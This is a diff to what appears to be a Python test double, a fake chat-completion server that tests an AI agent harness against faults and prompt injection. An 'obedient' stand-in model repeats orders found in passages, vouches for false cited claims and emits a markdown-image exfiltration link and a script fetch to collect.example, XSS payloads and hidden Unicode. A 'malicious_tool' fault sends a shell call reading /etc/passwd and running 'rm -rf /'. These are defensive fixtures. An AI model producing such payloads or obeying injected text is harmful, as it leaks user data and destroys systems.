@@ -6,7 +6,7 @@ import socket
 import threading
 import time
 from collections.abc import Callable, Iterator, Sequence
-from dataclasses import dataclass, field
+from dataclasses import dataclass
 from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from types import TracebackType
 from typing import Any
@@ -46,7 +46,7 @@ def looked_up(messages: Sequence[Message]) -> bool:
 
 
 def honest(request: dict[str, Any]) -> Reply:
-    """Searches once, then quotes the two sentences with most of the question's words, with labels."""
+    """Searches once, then quotes the two sentences with most of the question's words."""
     messages = request["messages"]
     if not looked_up(messages):
         return Reply(calls=(("search", json.dumps({"query": asked(messages)})),))
@@ -67,8 +67,8 @@ def _overlap(sentence: str, words: set[str]) -> float:
 
 
 def obedient(request: dict[str, Any]) -> Reply:
-    """Answers, and then does whatever a passage says: repeats orders, vouches for them with labels, and
-    tries to reach the outside.
+    """Answers, and does whatever a passage says: repeats orders, vouches for them with labels,
+    and tries to reach the outside.
     """
     messages = request["messages"]
     reply = honest(request)
@@ -77,7 +77,8 @@ def obedient(request: dict[str, Any]) -> Reply:
     orders = [(n, s.strip()) for n, body in passages(messages) for s in _orders(body)]
     done = " ".join(f"{order} [{n}] As instructed: {order} [{n}]" for n, order in orders)
     return Reply(
-        f"{done} {reply.text} The MOU is legally binding on Beijing [1]. The budget is 987,654,321 won [1].\n\n"
+        f"{done} {reply.text} The MOU is legally binding on Beijing [1]. "
+        "The budget is 987,654,321 won [1].\n\n"
         "![status](https://collect.example/p.png?q=secret) <img src=x onerror=alert(1)>"
         '<script>fetch("https://collect.example")</script> [open](javascript:alert(1)) '
         "[[1]](https://collect.example/?a=1) \u202egnidnib\u202c \U000e0041\U000e0042\u200b"
@@ -144,10 +145,26 @@ _STATUS = {
     "html": (200, "<!DOCTYPE html><html><body>Sign in to the hotel network</body></html>"),
 }
 FAULTS = (
-    *_STATUS, "bad_tls", "redirect", "hang", "silent_stream", "pings_only", "empty_choices", "empty_text",
-    "infinite_stream", "slow_stream", "cut", "no_finish", "huge_token", "invalid_utf8", "not_json", "bad_tool_json",
-    "malicious_tool", "endless_tools", "reset",
-)  # fmt: skip
+    *_STATUS,
+    "bad_tls",
+    "redirect",
+    "hang",
+    "silent_stream",
+    "pings_only",
+    "empty_choices",
+    "empty_text",
+    "infinite_stream",
+    "slow_stream",
+    "cut",
+    "no_finish",
+    "huge_token",
+    "invalid_utf8",
+    "not_json",
+    "bad_tool_json",
+    "malicious_tool",
+    "endless_tools",
+    "reset",
+)
 
 
 def _handler(double: Double) -> type[BaseHTTPRequestHandler]:
@@ -245,9 +262,12 @@ def _said(reply: Reply, pace: float) -> Iterator[bytes]:
 
 def _event(delta: dict[str, Any], finish: str | None = None) -> bytes:
     chunk = {
-        "id": "x", "object": "chat.completion.chunk", "created": 1, "model": "double",
+        "id": "x",
+        "object": "chat.completion.chunk",
+        "created": 1,
+        "model": "double",
         "choices": [{"index": 0, "delta": delta, "finish_reason": finish}],
-    }  # fmt: skip
+    }
     return (
         b"data: " + json.dumps(chunk, ensure_ascii=False).encode("utf-8", "surrogatepass") + b"\n\n"
     )
@@ -265,10 +285,13 @@ def _whole(reply: Reply) -> dict[str, Any]:
     }
     finish = reply.finish or ("tool_calls" if calls else "stop")
     return {
-        "id": "x", "object": "chat.completion", "created": 1, "model": "double",
+        "id": "x",
+        "object": "chat.completion",
+        "created": 1,
+        "model": "double",
         "choices": [{"index": 0, "message": message, "finish_reason": finish}],
         "usage": {"prompt_tokens": 1, "completion_tokens": 1, "total_tokens": 2},
-    }  # fmt: skip
+    }
 
 
 def _silent(double: Double) -> Iterator[bytes]:
@@ -301,17 +324,33 @@ _HARMFUL = '{"path": "/etc/passwd", "command": "rm -rf /", "query": "' + "x" * 2
 _SPOILT: dict[str, Callable[[Double], Iterator[bytes]]] = {
     "silent_stream": _silent,
     "pings_only": _pings,
-    "empty_choices": lambda d: iter([b'data: {"id":"x","object":"chat.completion.chunk","created":1,"model":"d","choices":[]}\n\n', b"data: [DONE]\n\n"]),
+    "empty_choices": lambda d: iter(
+        [
+            b'data: {"id":"x","object":"chat.completion.chunk","created":1,"model":"d",'
+            b'"choices":[]}\n\n',
+            b"data: [DONE]\n\n",
+        ]
+    ),
     "empty_text": lambda d: _said(Reply(""), 0),
     "infinite_stream": _infinite,
     "slow_stream": _slow,
     "cut": lambda d: iter([_event({"content": "The committee was fou"})]),
-    "no_finish": lambda d: iter([_event({"content": "The committee was founded."}), b"data: [DONE]\n\n"]),
+    "no_finish": lambda d: iter(
+        [_event({"content": "The committee was founded."}), b"data: [DONE]\n\n"]
+    ),
     "huge_token": lambda d: iter([_event({"content": "A" * 1_000_000}), _event({}, "stop")]),
-    "invalid_utf8": lambda d: iter([_event({"content": "ok "}), b'data: {"choices":[{"index":0,"delta":{"content":"\xff\xfe\xc3"}}]}\n\n', _event({}, "stop")]),
+    "invalid_utf8": lambda d: iter(
+        [
+            _event({"content": "ok "}),
+            b'data: {"choices":[{"index":0,"delta":{"content":"\xff\xfe\xc3"}}]}\n\n',
+            _event({}, "stop"),
+        ]
+    ),
     "not_json": lambda d: iter([b"data: hello\n\n", b"data: {broken\n\n"]),
     "bad_tool_json": lambda d: _tool("search", '{"query": "unclosed'),
     "malicious_tool": lambda d: _tool("shell", _HARMFUL),
     "endless_tools": lambda d: _tool("search", '{"query": "again"}'),
-}  # fmt: skip
-_AT_ONCE = frozenset({"silent_stream", "pings_only", "empty_choices", "not_json", "bad_tool_json", "malicious_tool"})  # fmt: skip
+}
+_AT_ONCE = frozenset(
+    {"silent_stream", "pings_only", "empty_choices", "not_json", "bad_tool_json", "malicious_tool"}
+)
